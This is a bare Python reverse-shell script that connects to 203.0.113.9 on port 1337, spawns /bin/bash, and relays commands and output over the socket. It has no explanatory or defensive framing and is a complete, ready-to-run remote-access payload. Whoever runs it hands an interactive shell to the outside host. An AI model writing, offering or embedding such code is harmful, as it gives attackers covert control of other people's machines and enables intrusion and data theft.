import socket
import threading
import subprocess

class Handler(threading.Thread):
    def __init__(self, sock):
        super().__init__()
        self.sock = sock

    def run(self):
        p = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        threading.Thread(target=self.pump, args=(p,)).start()
        while True:
            data = self.sock.recv(1024)
            if not data:
                break
            p.stdin.write(data)
            p.stdin.flush()

    def pump(self, p):
        while True:
            self.sock.send(p.stdout.read(1))

s = socket.create_connection(("203.0.113.9", 1337))
Handler(s).start()
